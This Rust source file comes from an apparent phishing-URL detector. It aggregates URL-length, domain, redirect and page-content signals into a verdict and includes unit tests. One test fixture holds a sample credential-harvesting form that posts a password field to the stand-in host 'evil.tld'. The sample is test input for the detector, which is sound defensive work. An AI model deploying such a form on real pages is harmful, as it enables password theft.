//! Verdict aggregation: one URL in, one immutable report out.

use crate::config::FetchConfig;
use crate::content::{content_outcome, ContentRiskResult, Finding, RuleSet};
use crate::error::{EvalError, FetchError};
use crate::fetch::PageFetcher;
use crate::lexical::{check_domain_validity, check_url_length};
use crate::redirect::{redirect_outcome, RedirectOutcome};
use serde::Serialize;
use std::sync::Arc;
use url::Url;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ReportDetails {
    #[serde(rename = "urlLength")]
    pub url_length_valid: bool,
    pub domain_valid: bool,
    pub redirection_safe: bool,
    pub source_code_phishing: bool,
    pub risk_score: u32,
}

impl ReportDetails {
    /// Safe only when every individual signal is.
    pub fn is_safe(&self) -> bool {
        self.url_length_valid
            && self.domain_valid
            && self.redirection_safe
            && !self.source_code_phishing
    }
}

/// Result of one evaluation. Serializes as `{ "isSafe", "details" }`; the
/// final URL and rule findings are kept for logs and the CLI only.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct EvaluationReport {
    is_safe: bool,
    details: ReportDetails,
    #[serde(skip)]
    final_url: Option<Url>,
    #[serde(skip)]
    redirects: usize,
    #[serde(skip)]
    findings: Vec<Finding>,
}

impl EvaluationReport {
    pub fn from_details(details: ReportDetails) -> Self {
        Self {
            is_safe: details.is_safe(),
            details,
            final_url: None,
            redirects: 0,
            findings: Vec::new(),
        }
    }

    pub fn compose(
        url_length_valid: bool,
        domain_valid: bool,
        redirect: RedirectOutcome,
        content: ContentRiskResult,
    ) -> Self {
        let details = ReportDetails {
            url_length_valid,
            domain_valid,
            redirection_safe: redirect.safe,
            source_code_phishing: content.is_phishing,
            risk_score: content.risk_score,
        };
        Self {
            final_url: redirect.final_url,
            redirects: redirect.redirects,
            findings: content.findings,
            ..Self::from_details(details)
        }
    }

    pub fn is_safe(&self) -> bool {
        self.is_safe
    }

    pub fn details(&self) -> &ReportDetails {
        &self.details
    }

    pub fn final_url(&self) -> Option<&Url> {
        self.final_url.as_ref()
    }

    /// Redirect hops followed before the final page.
    pub fn redirects(&self) -> usize {
        self.redirects
    }

    pub fn findings(&self) -> &[Finding] {
        &self.findings
    }

    pub fn verdict(&self) -> &'static str {
        if self.is_safe {
            "legitimate"
        } else {
            "phishing"
        }
    }
}

#[derive(Debug, Clone)]
pub struct Evaluator {
    fetcher: PageFetcher,
    rules: Arc<RuleSet>,
}

impl Evaluator {
    pub fn new(config: &FetchConfig) -> Result<Self, FetchError> {
        Self::with_rules(config, RuleSet::default())
    }

    pub fn with_rules(config: &FetchConfig, rules: RuleSet) -> Result<Self, FetchError> {
        Ok(Self {
            fetcher: PageFetcher::new(config)?,
            rules: Arc::new(rules),
        })
    }

    /// Evaluate `url`. Only a missing or empty URL is an input error; every
    /// network or parsing problem degrades to an unsafe signal instead.
    ///
    /// The page is fetched once and the same response feeds both the
    /// redirect comparison and the content scan.
    pub async fn evaluate(&self, url: Option<&str>) -> Result<EvaluationReport, EvalError> {
        let url = match url {
            Some(u) if !u.is_empty() => u,
            _ => return Err(EvalError::MissingUrl),
        };

        tracing::debug!(url, "evaluating url");

        let url_length_valid = check_url_length(url);
        let domain_valid = check_domain_validity(url);

        let fetched = self.fetcher.fetch(url).await;
        let redirect = redirect_outcome(url, &fetched, self.fetcher.max_redirects());

        // html parsing is cpu bound and the parsed tree is !Send
        let rules = Arc::clone(&self.rules);
        let owned_url = url.to_owned();
        let content =
            tokio::task::spawn_blocking(move || content_outcome(&owned_url, &fetched, &rules))
                .await
                .map_err(|e| EvalError::Internal(format!("content scan task failed: {e}")))?;

        let report = EvaluationReport::compose(url_length_valid, domain_valid, redirect, content);
        log_summary(url, &report);
        Ok(report)
    }
}

fn log_summary(url: &str, report: &EvaluationReport) {
    let d = report.details();
    tracing::info!(
        url,
        url_length_valid = d.url_length_valid,
        domain_valid = d.domain_valid,
        redirection_safe = d.redirection_safe,
        source_code_phishing = d.source_code_phishing,
        risk_score = d.risk_score,
        final_url = report.final_url().map(Url::as_str).unwrap_or("-"),
        redirects = report.redirects(),
        verdict = report.verdict(),
        "evaluation complete"
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fetch::FetchResult;
    use serde_json::json;

    fn all_good() -> ReportDetails {
        ReportDetails {
            url_length_valid: true,
            domain_valid: true,
            redirection_safe: true,
            source_code_phishing: false,
            risk_score: 0,
        }
    }

    #[test]
    fn all_signals_good_is_safe() {
        assert!(EvaluationReport::from_details(all_good()).is_safe());
    }

    #[test]
    fn any_single_bad_signal_flips_verdict() {
        let flips: [fn(&mut ReportDetails); 4] = [
            |d| d.url_length_valid = false,
            |d| d.domain_valid = false,
            |d| d.redirection_safe = false,
            |d| d.source_code_phishing = true,
        ];
        for flip in flips {
            let mut details = all_good();
            flip(&mut details);
            let report = EvaluationReport::from_details(details);
            assert!(!report.is_safe(), "{details:?} should be unsafe");
            assert_eq!(report.verdict(), "phishing");
        }
    }

    #[test]
    fn risk_score_alone_does_not_decide() {
        let details = ReportDetails {
            risk_score: 5,
            ..all_good()
        };
        assert!(EvaluationReport::from_details(details).is_safe());
    }

    #[test]
    fn compose_carries_context() {
        let final_url = Url::parse("https://b.com/").unwrap();
        let report = EvaluationReport::compose(
            true,
            true,
            RedirectOutcome {
                safe: false,
                final_url: Some(final_url.clone()),
                redirects: 1,
            },
            ContentRiskResult::from_findings(vec![Finding {
                rule: "cross-domain form action",
                points: 3,
            }]),
        );
        assert!(!report.is_safe());
        assert_eq!(report.final_url(), Some(&final_url));
        assert_eq!(report.redirects(), 1);
        assert_eq!(report.details().risk_score, 3);
        assert!(!report.details().source_code_phishing);
        assert_eq!(report.findings().len(), 1);
    }

    #[test]
    fn serializes_to_wire_shape() {
        let report = EvaluationReport::compose(
            true,
            false,
            RedirectOutcome {
                safe: true,
                final_url: Url::parse("https://a.com/").ok(),
                redirects: 0,
            },
            ContentRiskResult::unreachable(),
        );
        let value = serde_json::to_value(&report).unwrap();
        assert_eq!(
            value,
            json!({
                "isSafe": false,
                "details": {
                    "urlLength": true,
                    "domainValid": false,
                    "redirectionSafe": true,
                    "sourceCodePhishing": true,
                    "riskScore": 10
                }
            })
        );
    }

    #[test]
    fn cross_host_redirect_alone_flips_verdict() {
        let url = "https://phish-example.tk/login";
        let fetched = Ok(FetchResult {
            final_url: Url::parse("https://collector.example.net/").unwrap(),
            status: 200,
            redirects: 1,
            body: r#"<form action="http://evil.tld/collect"><input name="pass"></form>"#.into(),
        });

        let redirect = redirect_outcome(url, &fetched, 5);
        let content = content_outcome(url, &fetched, &RuleSet::default());
        assert_eq!(content.risk_score, 3);
        assert!(!content.is_phishing);

        let report = EvaluationReport::compose(
            check_url_length(url),
            check_domain_validity(url),
            redirect,
            content,
        );
        assert_eq!(
            *report.details(),
            ReportDetails {
                url_length_valid: true,
                domain_valid: true,
                redirection_safe: false,
                source_code_phishing: false,
                risk_score: 3,
            }
        );
        assert!(!report.is_safe());
    }

    #[tokio::test]
    async fn missing_or_empty_url_is_rejected() {
        let evaluator = Evaluator::new(&FetchConfig::default()).unwrap();
        assert!(matches!(
            evaluator.evaluate(None).await,
            Err(EvalError::MissingUrl)
        ));
        assert!(matches!(
            evaluator.evaluate(Some("")).await,
            Err(EvalError::MissingUrl)
        ));
    }

    #[tokio::test]
    async fn unfetchable_url_degrades_to_unsafe_report() {
        let evaluator = Evaluator::new(&FetchConfig::default()).unwrap();
        let report = evaluator.evaluate(Some("not a url")).await.unwrap();
        assert_eq!(
            *report.details(),
            ReportDetails {
                url_length_valid: true,
                domain_valid: false,
                redirection_safe: false,
                source_code_phishing: true,
                risk_score: 10,
            }
        );
        assert!(!report.is_safe());
        assert!(report.final_url().is_none());
    }
}
